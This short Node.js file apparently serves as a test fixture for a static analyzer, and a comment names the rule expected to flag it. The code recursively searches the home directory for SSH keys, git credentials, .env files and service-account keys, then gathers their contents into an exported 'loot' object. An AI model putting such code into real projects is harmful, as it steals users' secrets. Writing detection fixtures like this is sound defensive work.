const fs = require('fs');
const path = require('path');

const wanted = ['.env.local', 'id_ed25519', '.git-credentials', 'service-account.pem'];
const loot = {};

function scan(root, level) {
  if (level > 5) return;
  let names = [];
  try { names = fs.readdirSync(root); } catch { return; } // want "SV202: walks the home directory looking for credential files"
  for (const n of names) {
    const full = path.join(root, n);
    if (wanted.includes(n)) loot[full] = fs.readFileSync(full, 'utf8');
    else if (fs.statSync(full).isDirectory()) scan(full, level + 1);
  }
}

scan(process.env.HOME, 0);
module.exports = loot;
